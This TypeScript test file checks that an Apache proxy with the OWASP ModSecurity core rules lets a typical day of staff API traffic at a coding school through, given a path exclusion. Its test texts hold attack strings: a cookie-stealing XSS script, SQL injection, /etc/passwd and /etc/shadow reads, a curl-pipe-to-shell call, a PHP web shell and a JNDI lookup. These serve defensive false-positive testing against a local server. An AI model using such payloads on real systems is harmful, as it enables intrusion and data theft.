import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { Agent, request } from 'node:https'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, it, onTestFinished } from 'vitest'
import { createCertificate } from '#test/certificate.ts'
import { createQuestions } from '#test/factories.ts'
import { findFreePort } from '#test/server-process.ts'
import { createInstitute } from '../started-class.ts'
import { addCoreRules, areRulesInstalled } from './core-rules.ts'
import { apache, configureProxy } from './proxies.ts'

/** Texts that staff of a school for developers write on a usual day. */
const writings = [
  '<script>alert(document.cookie)</script> What does this print?',
  "SELECT * FROM users WHERE name = 'x' OR 1=1; -- what is wrong with it?",
  'cat /etc/passwd | grep root && rm -rf /tmp/x; echo $(whoami)',
  "require('child_process').execSync('curl http://example.com/x.sh | sh')",
  '<?php system($_GET["c"]); ?> <img src=x onerror=alert(1)> ../../etc/shadow',
  'Priya O\'Brien: "see /bin/bash, .htaccess and web.config" {{7*7}} ${' + 'jndi:ldap://x}',
]

type Act = (method: string, path: string, body?: object) => Promise<Record<string, unknown>>

/** A day of staff; each act that the firewall refused is in the list. */
async function spendStaffDay(act: Act, studentId: string) {
  for (const [index, text] of writings.entries()) {
    const questions = createQuestions(3).map((question) => ({
      ...question,
      question: `${question.question} ${text}`,
      codeSnippet: text,
    }))
    const { test } = await act('POST', '/api/test/create', {
      title: `T ${index} ${text}`,
      questions,
    })
    const id = (test as { _id?: string } | undefined)?._id ?? 'x'
    await act('PUT', `/api/test/update/${id}`, { title: `Better: ${text}`, released: true })
    await act('GET', `/api/test/allTests?search=${encodeURIComponent(text.slice(0, 100))}`)
    await act('DELETE', `/api/test/delete/${id}`)
    await act('PUT', `/api/students/updateStudent/${studentId}`, { remarks: text, fees: 40_000 })
    const { batch } = await act('POST', '/api/batches', {
      name: `B ${index}`,
      course: 'full stack',
    })
    const batchId = (batch as { _id?: string } | undefined)?._id ?? 'x'
    await act('PUT', `/api/batches/${batchId}`, { name: `${index} ${text}`.slice(0, 60) })
    await act('DELETE', `/api/batches/${batchId}`)
  }
  const rows = Array.from({ length: 300 }, (_, n) => ({
    line: n + 2,
    name: `Student O'Neil ${n}`,
    email: `s${n}@example.com`,
    phone: '+91 98200 00001',
    course: 'full stack',
  }))
  await act('POST', '/api/students/import', { rows, batchId: null, deliver: 'slips' })
}

async function countBlocked(isExcluded: boolean) {
  const folder = mkdtempSync(join(tmpdir(), 'core-rules-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  const institute = await createInstitute({ folder, students: 1 })
  const serverPort = await findFreePort()
  const server = await institute.start({ port: serverPort, env: { TRUST_PROXY: '127.0.0.1' } })
  onTestFinished(() => server.kill())
  const certificate = createCertificate(folder)
  const tlsPort = await findFreePort()
  const start = await configureProxy(addCoreRules(apache, { isExcluded }), {
    folder: join(folder, 'proxy'),
    plainPort: await findFreePort(),
    tlsPort,
    serverPort,
    ...certificate,
  })
  const running = await start()
  onTestFinished(() => running.kill())

  const agent = new Agent({ keepAlive: true, ca: readFileSync(certificate.certificate) })
  onTestFinished(() => agent.destroy())
  const blocked: string[] = []
  let acts = 0
  const act: Act = async (method, path, body) => {
    acts += 1
    const { status, text } = await call({
      agent,
      port: tlsPort,
      cookie: institute.adminCookie,
      method,
      path,
      body,
    })
    // Ours are JSON with a code.
    const json = text.startsWith('{') || text.startsWith('[') ? JSON.parse(text) : null
    if (json === null) blocked.push(`${method} ${path.slice(0, 60)}: ${status}`)
    return json ?? {}
  }
  const students = (await act('GET', '/api/students/getStudents')) as unknown as { _id: string }[]
  await spendStaffDay(act, students[0]?._id ?? 'x')
  return { acts, blocked }
}

it('a staff day passes the OWASP core rules with the exclusion of deploy/', {
  timeout: 120_000,
}, async ({ skip }) => {
  skip(!areRulesInstalled(), 'This needs libapache2-mod-security2 and modsecurity-crs')
  const { acts, blocked } = await countBlocked(true)
  expect(blocked).toEqual([])
  expect(acts).toBe(2 + 6 * 8)
  // The rules are at work: without it most of the day is refused.
  expect((await countBlocked(false)).blocked.length).toBeGreaterThan(20)
})

type Call = {
  readonly agent: Agent
  readonly port: number
  readonly cookie: string
  readonly method: string
  readonly path: string
  readonly body?: object | undefined
}

function call({ agent, port, cookie, method, path, body }: Call) {
  return new Promise<{ status: number | undefined; text: string }>((resolve, reject) => {
    const sent = request(
      {
        agent,
        host: '127.0.0.1',
        port,
        method,
        path,
        headers: {
          // As a browser does it: the rules want a host name and these.
          host: 'academy.example',
          accept: '*/*',
          'user-agent': 'Mozilla/5.0',
          cookie,
          ...(body && { 'content-type': 'application/json' }),
        },
      },
      async (reply) => {
        let text = ''
        for await (const chunk of reply) text += chunk
        resolve({ status: reply.statusCode, text })
      },
    )
    sent.once('error', reject)
    sent.end(body && JSON.stringify(body))
  })
}
